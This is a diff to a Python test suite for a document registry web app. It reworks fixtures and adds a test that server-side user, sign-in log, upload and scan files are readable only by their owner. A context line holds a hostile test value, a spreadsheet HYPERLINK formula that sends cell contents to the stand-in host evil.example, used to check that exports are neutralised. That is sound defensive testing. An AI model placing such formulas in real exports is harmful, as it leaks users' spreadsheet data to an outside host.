@@ -10,6 +10,7 @@ import os
 import stat
 import threading
 import urllib.request
+from pathlib import Path
 
 import pytest
 
@@ -24,8 +25,8 @@ PASSWORDS = web_support.PASSWORDS
 
 
 @pytest.fixture
-def secured(tmp_path):
-    return web_support.secured_app(tmp_path / "reg.db")
+def secured(places):
+    return web_support.secured_app(places("reg.db"))
 
 
 token_of = web_support.login_token
@@ -201,7 +202,7 @@ def test_sign_ins_are_logged_beside_the_users(secured):
     assert all(row[0].endswith("+00:00") for row in rows)
     r = CliRunner().invoke(main, ["users", "log", "--db", db, "--failed", "--user", "anan", "--json"])
     assert [json.loads(line)["outcome"] for line in r.output.splitlines()] == ["wrong password"]
-    log = store.path.with_name("reg.signins.jsonl")
+    log = store.path.with_name(store.path.name.replace(".users.json", ".signins.jsonl"))   # reg.signins.jsonl
     assert stat.S_IMODE(log.stat().st_mode) == 0o600
 
 
@@ -262,12 +263,12 @@ HOSTILE = {"subject": '=HYPERLINK("http://evil.example/?x="&A1,"คลิกเ�
 
 
 @pytest.fixture
-def hostile(tmp_path):
+def hostile(tmp_path, places):
     from ingest.registry.corrections import edit
     from ingest.registry.store import Registry
 
-    db = tmp_path / "reg.db"
-    web_support.build(db)
+    db = places("reg.db")
+    web_support.build(db, tmp_path / "scans")
     letter = dict(web_support.PROVINCE, **HOSTILE)
     letter["receipt"] = dict(letter["receipt"], date="2024-01-23")
     with Registry(db) as reg:
@@ -325,8 +326,8 @@ def test_the_cli_exports_are_neutralised_too(hostile, tmp_path):
 # -- Host headers and where sign-in sends you back to ---------------------------------
 
 @pytest.fixture
-def local_app(tmp_path):
-    db = tmp_path / "reg.db"
+def local_app(places):
+    db = places("reg.db")
     web_support.build(db)
     return create_app(db, secret_key="t")
 
@@ -419,4 +420,50 @@ def test_registry_users_and_scans_are_private(tmp_path, umask):
     originals = [p for p in files.rglob("*.png")]
     assert len(originals) == 2
     wanted = {name: 0o700 if (tmp_path / name).is_dir() else 0o600 for name in modes}
+    assert modes == wanted
+
+
+@pytest.mark.parametrize("first", ["upload", "scan shown"])
+def test_a_server_registrys_files_on_this_machine_are_private(tmp_path, pg_server, monkeypatch, first):
+    """A server registry keeps its users, their sign-in log, uploads and this machine's copies
+    of the scans it showed in the $SARABAN_SERVER_FILES folder: only their owner reads them,
+    even where that folder was made open to all and the umask lets everyone in, whichever of
+    an upload and a shown scan makes the registry's folder there."""
+    from ingest.registry.store import Registry
+    from ingest.settings import files_base
+
+    here = tmp_path / "server-files"
+    here.mkdir()
+    here.chmod(0o755)
+    monkeypatch.setenv("SARABAN_SERVER_FILES", str(here))
+    url = pg_server.new_database()
+    old = os.umask(0)
+    try:
+        web_support.build(url, tmp_path / "scans")
+        store = UserStore(users_path(files_base(url)))
+        store.add("somsri", "clerk-pass-1", "clerk")
+        app = create_app(url, require_login=True)
+        try_sign_in(app.test_client(), "somsri", "wrong")   # the sign-in log and the limiter's counts
+
+        def upload():
+            r = app.test_client().post("/api/ingest", data={"file": (io.BytesIO(b"%PDF-1.4\n%cut"), "cut.pdf")},
+                                       headers=basic("somsri", "clerk-pass-1"))
+            assert r.status_code == 422, r.get_data(as_text=True)
+
+        def show():
+            with Registry(url) as reg:
+                return [reg.original_path(sha) for (sha,) in reg.conn.execute("SELECT sha256 FROM files")]
+
+        if first == "upload":
+            upload()
+            shown = show()
+        else:
+            shown = show()
+            upload()
+    finally:
+        os.umask(old)
+    assert len(shown) == 2 and all(p.is_relative_to(here) for p in shown)
+    modes = {str(p.relative_to(here)): stat.S_IMODE(p.stat().st_mode) for p in here.rglob("*")}
+    assert {users_path(files_base(url)).name, ".uploads", shown[0].name} <= {Path(name).name for name in modes}
+    wanted = {name: 0o700 if (here / name).is_dir() else 0o600 for name in modes}
     assert modes == wanted
